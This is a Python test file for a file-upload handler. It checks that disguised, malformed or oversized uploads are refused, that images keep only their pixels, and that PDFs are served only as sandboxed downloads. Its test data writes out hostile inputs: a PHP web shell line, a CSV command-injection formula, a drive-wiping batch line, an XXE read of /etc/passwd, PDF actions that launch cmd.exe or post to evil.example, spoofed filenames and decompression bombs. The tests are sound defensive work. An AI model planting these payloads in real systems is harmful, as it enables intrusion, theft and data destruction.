"""A hostile picture, pdf or anything else is refused in words and leaves nothing, or what is kept of it is inert."""

import io
import struct
import sys
import zlib
from hashlib import md5

import pytest
from PIL import Image, TiffImagePlugin

from tests.toolkit import made_files as make
from toolkit import files

PAGE = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SCRIPT = b"<script>alert(1)</script>"
PROGRAM = b"MZ\x90\0\x03" + bytes(100)


def jpg_saying(width: int, height: int) -> bytes:
    """Return a small jpg whose frame says it is of that size."""
    content = bytearray(make.jpg())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def locked_pdf(user_password: str | None) -> bytes:
    """Return a pdf locked by 40 bits of RC4; with an empty user password anybody can open it, but not copy from it."""
    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    owner, number = b"o" * 32, b"0123456789abcdef"
    key = md5(pad + owner + struct.pack("<i", -4) + number, usedforsecurity=False).digest()[:5]
    user = rc4(key, pad) if user_password == "" else b"u" * 32
    lock = f"<< /Filter /Standard /V 1 /R 2 /O <{owner.hex()}> /U <{user.hex()}> /P -4 >>".encode()
    return make.pdf(trailer=f"/Encrypt 5 0 R /ID [<{number.hex()}> <{number.hex()}>]", o5=lock)


def rc4(key: bytes, content: bytes) -> bytes:
    box, j, written = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    i = j = 0
    for byte in content:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        written.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(written)


# Refused by what the first bytes say; no process is started for these.
NOT_WHAT_IT_SAYS = {
    "page as pdf": ("x.pdf", PAGE),
    "page as jpg": ("x.jpg", PAGE),
    "page as docx": ("x.docx", PAGE),
    "page with a byte order mark": ("x.pdf", b"\xef\xbb\xbf" + PAGE),
    "page in UTF-16": ("x.pdf", PAGE.decode().encode("utf-16")),
    "page after white space": ("x.png", b" \r\n\t" + PAGE),
    "page before a pdf": ("x.pdf", PAGE + make.pdf()),
    "page before a jpg": ("x.jpg", PAGE + make.jpg()),
    "script as jpg": ("x.jpg", b"<?php system($_GET['c']); ?>"),
    "drawing as png": ("x.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "drawing with a head as jpg": ("x.jpg", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    "XML as docx": ("x.docx", b'<?xml version="1.0"?><a/>'),
    "rich text as docx": ("x.docx", b"{\\rtf1 x}"),
    "plain text as pdf": ("x.pdf", "Quyết định".encode()),
    "plain text as xlsx": ("x.xlsx", b"a,b\n1,2\n"),
    "program as pdf": ("x.pdf", PROGRAM),
    "program as jpg": ("x.jpg", b"\x7fELF\2\1\1" + bytes(50)),
    "shell script as pdf": ("x.pdf", b"#!/bin/sh\nreboot\n"),
    "jpg as png": ("x.png", make.jpg()),
    "png as jpg": ("x.jpg", make.png()),
    "png as pdf": ("x.pdf", make.png()),
    "pdf as jpg": ("x.jpg", make.pdf()),
    "pdf as docx": ("x.docx", make.pdf()),
    "gif as jpg": ("x.jpg", make.picture(Image.new("P", (9, 9)), "GIF")),
    "gif with a script as png": ("x.png", b"GIF89a/*" + SCRIPT),
    "webp as jpg": ("x.jpg", make.picture(Image.new("RGB", (9, 9)), "WEBP")),
    "tiff as jpg": ("x.jpg", make.picture(Image.new("RGB", (9, 9)), "TIFF")),
    "bmp as png": ("x.png", make.picture(Image.new("RGB", (9, 9)), "BMP")),
    "iPhone picture as jpg": ("x.jpg", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
    "film as jpg": ("x.jpg", b"\0\0\0\x18ftypmp42\0\0\0\0mp42"),
    "rar as pdf": ("x.pdf", b"Rar!\x1a\x07\0"),
    "7z as docx": ("x.docx", b"7z\xbc\xaf\x27\x1c\0\4"),
    "gz as xlsx": ("x.xlsx", b"\x1f\x8b\x08\0"),
    "NUL only": ("x.pdf", bytes(1000)),
    "a byte": ("x.jpg", b"\xff"),
    "pdf that begins late": ("x.pdf", b"\n\n" + make.pdf()),
    "script behind a jpg's first two bytes": ("x.jpg", b"\xff\xd8" + SCRIPT),
    "png with its line ends mended": ("x.png", make.png().replace(b"\r\n", b"\n", 1)),
}
NOT_TAKEN = {
    "page": ("x.html", PAGE),
    "page called pdf.html": ("x.pdf.html", PAGE),
    "drawing": ("x.svg", b"<svg onload='alert(1)'/>"),
    "program": ("x.exe", PROGRAM),
    "program by right-to-left": ("hoa-don\u202efdp.exe", PROGRAM),
    "program behind a NUL": ("x.pdf\0.exe", PROGRAM),
    "script": ("x.js", b"alert(1)"),
    "batch": ("x.bat", b"del /s /q c:\\"),
    "page that runs": ("x.hta", PAGE),
    "gif": ("x.gif", b"GIF89a" + bytes(20)),
    "webp": ("x.webp", make.picture(Image.new("RGB", (9, 9)), "WEBP")),
    "tiff": ("x.tif", make.picture(Image.new("RGB", (9, 9)), "TIFF")),
    "iPhone picture": ("IMG_0001.HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
    "film": ("x.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42"),
    "rich text": ("x.rtf", b"{\\rtf1 x}"),
    "plain text": ("x.txt", b"abc"),
    "table of plain text": ("x.csv", b"=cmd|' /C calc'!A0\n"),
    "no ending, unknown": ("x", bytes(range(256))),
}
WRONG_ENDING = {
    "pdf called exe": ("x.exe", make.pdf()),
    "pdf called pdf.html": ("x.pdf.html", make.pdf()),
    "jpg called php": ("x.jpg.php", make.jpg()),
    "jpg called svg": ("x.svg", make.jpg()),
    "jpg called htm by full-width letters": ("x.\uff48\uff54\uff4d", make.jpg()),
    "pdf called pdf in Cyrillic": ("x.\u0440df", make.pdf()),
    "pdf whose header was injected": ("x.pdf\r\nX-A: b", make.pdf()),
    "pdf with no ending": ("pdf", make.pdf()),
    "pdf with no name": ("", make.pdf()),
}
CASES = [
    pytest.param(*case, code, id=title)
    for code, cases in {"mismatch": NOT_WHAT_IT_SAYS, "type": NOT_TAKEN, "ending": WRONG_ENDING}.items()
    for title, case in cases.items()
]

# Refused by the process that decodes; each starts one.
DAMAGED = {
    "half a jpg": ("x.jpg", make.jpg((400, 300))[:1500], "unreadable"),
    "first bytes of a jpg": ("x.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0", "unreadable"),
    "garbage behind a jpg's first bytes": ("x.jpg", b"\xff\xd8\xff" + bytes(range(256)) * 8, "unreadable"),
    "script behind a jpg's first bytes": ("x.jpg", b"\xff\xd8\xff\xe0" + SCRIPT * 20, "unreadable"),
    "jpg without an area": ("x.jpg", jpg_saying(0, 30), "unreadable"),
    "jpg that says 4 billion pixels": ("x.jpg", jpg_saying(65_500, 65_500), "pixels"),
    "jpg that says 41 million pixels and is small": ("x.jpg", jpg_saying(8200, 5000), "pixels"),
    "half a png": ("x.png", make.png((300, 300), compress_level=0)[:5000], "unreadable"),
    "png of a head only": ("x.png", make.bare_png(9, 9)[:33], "unreadable"),
    "png without pixels": ("x.png", make.bare_png(9, 9), "unreadable"),
    "png without an area": ("x.png", make.bare_png(0, 0), "unreadable"),
    "png with a wrong checksum": ("x.png", make.png()[:-20] + b"\0" * 20, "unreadable"),
    "png that says 10 billion pixels": ("x.png", make.bare_png(100_000, 100_000), "pixels"),
    "png that says 2^31 each way": ("x.png", make.bare_png(2**31 - 1, 2**31 - 1), "pixels"),
    "png of 50 million pixels": ("x.png", make.png((10_000, 5_000), 1, mode="1"), "pixels"),
    "png of one line of 50 million": ("x.png", make.bare_png(50_000_000, 1, pixels=bytes(50_000_001)), "pixels"),
    "png with 100 MB of words": (
        "x.png",
        make.bare_png(9, 9, make.png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * 1024 * 1024))), pixels=bytes(90)),
        "unreadable",
    ),
    "png with 100 MB of words behind its pixels": (
        "x.png",
        make.png()[:-12] + make.png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * 1024 * 1024))) + make.png()[-12:],
        "unreadable",
    ),
    "png with a chunk that says 2 GB": (
        "x.png",
        make.bare_png(9, 9)[:33] + b"\x7f\xff\xff\xffIDAT" + bytes(99),
        "unreadable",
    ),
    "garbage behind a pdf's first bytes": ("x.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8, "unreadable"),
    "page behind a pdf's first bytes": ("x.pdf", b"%PDF-1.7\n" + PAGE, "unreadable"),
    "half a pdf": ("x.pdf", make.pdf(pages=3)[:90], "unreadable"),
    "pdf of no page": ("x.pdf", make.pdf(pages=0), "no_pages"),
    "pdf of 101 pages": ("x.pdf", make.pdf(pages=101), "pages"),
    "pdf that says 50 pages and has one": ("x.pdf", make.pdf(count=50), "unreadable"),
    "pdf behind a password": ("x.pdf", locked_pdf(None), "locked"),
    "pdf locked against copying": ("x.pdf", locked_pdf(""), "locked"),
    "pdf locked by an unheard method": (
        "x.pdf",
        make.pdf(trailer="/Encrypt 5 0 R", o5=b"<< /Filter /Other /V 9 >>"),
        "locked",
    ),
    "pdf whose pages hold each other": (
        "x.pdf",
        make.pdf(pages=0, o2=b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", o3=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
        "unreadable",
    ),
}


@pytest.mark.parametrize(("name", "content", "code"), CASES)
def test_what_is_not_what_it_says_or_not_taken_is_refused_without_opening_it(root, monkeypatch, name, content, code):
    monkeypatch.setattr(sys, "executable", "/nowhere")

    assert make.refusal_of(name, content) == code
    assert not root.exists()


@pytest.mark.parametrize(("name", "content", "code"), DAMAGED.values(), ids=DAMAGED.keys())
def test_a_hostile_picture_or_pdf_is_refused_in_words_and_nothing_is_kept(root, name, content, code):
    assert make.refusal_of(name, content) == code
    assert not root.exists()


@pytest.mark.parametrize("name", ["x.pdf", "x.jpg", "x.jpeg", "x.png", "x.docx", "x.xlsx", "x.exe", ""])
@pytest.mark.parametrize(("content", "code"), [(b"", "empty"), (bytes(files.MOST_BYTES + 1), "size")], ids=["empty", "10 MB + 1"])
def test_an_empty_file_and_one_too_heavy_are_refused_whatever_they_are_called(root, name, content, code):
    assert make.refusal_of(name, content) == code
    assert not root.exists()


def _with_place() -> Image.Exif:
    told = Image.Exif()
    told[0x010F] = "Samsung"
    told[0x9286] = "<script>"
    told.get_ifd(0x8825).update({1: "N", 2: (21.0, 35.0, 12.0), 3: "E", 4: (105.0, 50.0, 30.0)})
    return told


def _broken_place() -> bytes:
    told = TiffImagePlugin.ImageFileDirectory_v2()
    told[0x0112] = 6
    return b"Exif\0\0" + told.tobytes()[:14] + b"\xff" * 9


POLYGLOTS = {
    "jpg with the place it was taken": ("x.jpg", make.jpg(exif=_with_place()), [b"Exif", b"Samsung", b"<script>"]),
    "jpg with a broken note of its orientation": ("x.jpg", make.jpg(exif=_broken_place()), [b"Exif"]),
    "jpg with a comment": ("x.jpg", make.jpg(comment=SCRIPT), [SCRIPT]),
    "jpg with a colour profile": ("x.jpg", make.jpg(icc_profile=SCRIPT * 9), [SCRIPT]),
    "jpg with XMP": ("x.jpg", make.jpg(xmp=b"<x:xmpmeta>" + SCRIPT), [SCRIPT, b"xmpmeta"]),
    "jpg with a zip behind it": ("x.jpg", make.jpg() + make.zipped({"a.exe": "x"}), [b"PK\x03\x04", b"PK\x05\x06"]),
    "jpg with a docx behind it": ("x.jpg", make.jpg() + make.docx(), [b"PK\x03\x04"]),
    "jpg with a page behind it": ("x.jpg", make.jpg() + PAGE, [b"<html>"]),
    "jpg with a program behind it": ("x.jpg", make.jpg() + PROGRAM, [PROGRAM]),
    "jpg with a pdf behind it": ("x.jpg", make.jpg() + make.pdf(), [b"%PDF"]),
    "jpg with a further picture": (
        "x.jpg",
        make.picture(Image.new("RGB", (9, 9)), "MPO", save_all=True, append_images=[Image.new("RGB", (9, 9), "blue")]),
        [b"MPF\0"],
    ),
    "png with a page in its words": (
        "x.png",
        make.bare_png(9, 9, make.png_chunk(b"tEXt", b"a\0" + PAGE), pixels=bytes(90)),
        [b"<html>"],
    ),
    "png with the place it was taken": ("x.png", make.png(exif=_with_place()), [b"eXIf", b"Samsung", b"<script>"]),
    "png with a colour profile": ("x.png", make.png(icc_profile=SCRIPT * 9), [b"iCCP"]),
    "png with a chunk of its own": ("x.png", make.bare_png(9, 9, make.png_chunk(b"evIl", SCRIPT), pixels=bytes(90)), [SCRIPT]),
    "png with a page behind it": ("x.png", make.png() + PAGE, [b"<html>"]),
    "png with a zip behind it": ("x.png", make.png() + make.zipped({"a": "x"}), [b"PK\x03\x04"]),
    "jpg that says 39 million pixels and has 1,200": ("x.jpg", jpg_saying(7800, 5000), []),
    "png whose pixels go on and on": ("x.png", make.bare_png(9, 9, pixels=bytes(50 * 1024 * 1024)), []),
    "png that moves": (
        "x.png",
        make.picture(Image.new("RGB", (9, 9)), "PNG", save_all=True, append_images=[Image.new("RGB", (9, 9), "blue")] * 3),
        [b"acTL", b"fcTL", b"fdAT"],
    ),
}


@pytest.mark.parametrize(("name", "content", "gone"), POLYGLOTS.values(), ids=POLYGLOTS.keys())
def test_of_a_picture_nothing_is_kept_but_its_pixels(root, name, content, gone):
    assert all(one in content for one in gone), "the case holds what is to go"

    taken = files.take_in(make.upload(name, content))
    stored = files.path_of(taken.sha256).read_bytes()
    kept = [stored, files.preview_of(taken.sha256, 1).read_bytes()]

    for one in gone:
        assert not any(one in held for held in kept)
    drawn = Image.open(io.BytesIO(stored))
    assert (drawn.format, dict(drawn.getexif()), getattr(drawn, "n_frames", 1)) == (
        {"jpg": "JPEG", "png": "PNG"}[taken.kind],
        {},
        1,
    )
    assert set(drawn.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}


ACTION = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
INERT_PDFS = {
    "that runs a script": make.pdf(catalog=ACTION),
    "that starts a program": make.pdf(catalog="/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
    "that opens a page": make.pdf(catalog="/OpenAction << /S /URI /URI (http://evil.example/) >>"),
    "that sends a form": make.pdf(catalog="/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
    "that holds a program": make.pdf(
        catalog="/Names << /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) /EF << /F 5 0 R >> >>] >> >>",
        o5=make.stream(PROGRAM, "/Type /EmbeddedFile"),
    ),
    "that draws a form with a script": make.pdf(
        catalog="/AcroForm << /XFA 5 0 R /Fields [] >>",
        o5=make.stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>"),
    ),
    "with a page behind it": make.pdf() + PAGE,
    "with a zip behind it": make.pdf() + make.zipped({"a": "x"}),
    "with an entity in its words": make.pdf(
        catalog="/Metadata 5 0 R", o5=make.stream(b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')
    ),
    "that says it has a billion pages": make.pdf(count=10**9),
    "with a page as large as a field": make.pdf(box="0 0 1000000 1000000"),
    "with a page as thin as a hair": make.pdf(box="0 0 0.01 100000"),
    "with a page turned inside out": make.pdf(box="595 842 0 0"),
    "that paints itself": make.pdf(
        page="/Contents 6 0 R /Resources << /XObject << /A 5 0 R >> >>",
        o5=make.stream(b"/A Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 5 0 R >> >>"),
        o6=make.stream(b"/A Do"),
    ),
    "with a picture of a billion pixels": make.pdf(
        page="/Contents 6 0 R /Resources << /XObject << /A 5 0 R >> >>",
        o5=make.stream(
            zlib.compress(bytes(30_000_000)),
            "/Type /XObject /Subtype /Image /Width 32000 /Height 32000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
        ),
        o6=make.stream(b"595 0 0 842 0 0 cm /A Do"),
    ),
}


@pytest.mark.parametrize("content", INERT_PDFS.values(), ids=INERT_PDFS.keys())
def test_a_pdf_is_kept_as_it_came_and_leaves_as_a_sandboxed_download_or_as_pictures(root, content):
    taken = files.take_in(make.upload("x.pdf", content))
    answer, picture = files.answer_download(taken.sha256, "pdf", taken.name), files.answer_preview(taken.sha256, 1)

    assert b"".join(answer.streaming_content) == content
    assert answer.headers["Content-Disposition"] == 'attachment; filename="x.pdf"'
    assert [one.headers["Content-Security-Policy"] for one in (answer, picture)] == ["sandbox; default-src 'none'"] * 2
    assert [one.headers["X-Content-Type-Options"] for one in (answer, picture)] == ["nosniff"] * 2
    assert picture.headers["Content-Type"] == "image/jpeg"
    drawn = Image.open(io.BytesIO(b"".join(picture.streaming_content)))
    assert drawn.format == "JPEG"
    assert drawn.width <= 1100
    assert drawn.height <= 3300
